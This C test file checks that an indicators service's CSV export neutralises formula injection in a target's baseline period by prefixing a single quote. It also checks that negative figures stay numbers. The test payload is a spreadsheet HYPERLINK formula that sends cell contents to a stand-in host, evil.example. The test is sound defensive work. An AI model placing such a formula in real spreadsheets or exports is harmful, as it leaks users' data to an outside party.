/* CSV injection (OWASP) in the indicators' CSV: the one free text that reaches
 * it, a target's baseline period (PUT /v1/targets/{code}, written by a
 * coordinator), is exported behind a single quote when it is a formula; the
 * figures, a negative target included, stay numbers. The labels and
 * definitions are the service's own; the series and the routes hold only
 * dates, figures and organisation kinds.
 *
 * Targets are shared: this test changes devices_distributed's (no other test
 * changes it or reads its baseline) and the fini puts the row back as it was. */
#include "csv.h"
#include "indicator_target.h"
#include "support/expect.h"
#include "support/fixture.h"

#include <libpq-fe.h>
#include <stdlib.h>
#include <string.h>

static char *admin, *reader;
static struct saved_target kept;

static void start(void)
{
    /* small-cell suppression alone: the tests read their own organisation's days */
    static const char *const env[] = {"INDICATORS_DISCLOSURE=cell", NULL};
    fixture_start_with(env);
    fixture_token(&admin, "gers-numerique", "admin");
    fixture_token(&reader, "gers-numerique", "indicators:read");
}

static void stop(void)
{
    target_restore(&kept);
    fixture_stop();
}

TestSuite(indicators_csv_injection, .init = start, .fini = stop, .timeout = 120);

#define PAYLOAD "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")"

Test(indicators_csv_injection, a_baseline_period_that_is_a_formula_is_exported_as_text)
{
    target_save(&kept, "devices_distributed");
    json_t *target = json_pack("{s:s, s:i, s:{s:i, s:s}}", "kind", "relative_change", "value", -30,
                               "baseline", "value", 180, "period", PAYLOAD);
    struct response *r = api_call_json("PUT", "/v1/targets/devices_distributed", admin, target);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    response_free(r);

    r = api_call(true, "GET", "/v1/indicators?format=csv", reader, NULL, NULL);
    cr_assert_eq(r->status, 200, "%ld %s", r->status, r->body);
    struct csv csv;
    size_t bad = 0;
    cr_assert_eq(csv_parse(r->body, r->body_len, ',', &csv, &bad), 0, "line %zu", bad);
    int code = csv_column(&csv, "code"), period = csv_column(&csv, "baseline_period"),
        value = csv_column(&csv, "target_value");
    cr_assert(code >= 0 && period >= 0 && value >= 0, "the columns");
    int row = -1;
    for (size_t i = 1; i < csv.count; i++)
        if (strcmp(csv.rows[i].fields[code], "devices_distributed") == 0)
            row = (int)i;
    cr_assert_geq(row, 1, "the row of devices_distributed");
    cr_expect_str_eq(csv.rows[row].fields[period], "'" PAYLOAD, "the period, behind a quote");
    cr_expect_str_eq(csv_cell_text(csv.rows[row].fields[period]), PAYLOAD);
    cr_expect_str_eq(csv.rows[row].fields[value], "-30", "a negative figure stays a number");
    for (size_t i = 0; i < csv.count; i++)
        for (size_t c = 0; c < csv.rows[i].count; c++) {
            const char *cell = csv.rows[i].fields[c];
            cr_expect(!csv_is_neutralised(cell) || cell[0] == '\'',
                      "line %zu, column %zu: [%s] starts a formula", csv.rows[i].line, c, cell);
        }
    csv_free(&csv);
    response_free(r);
}
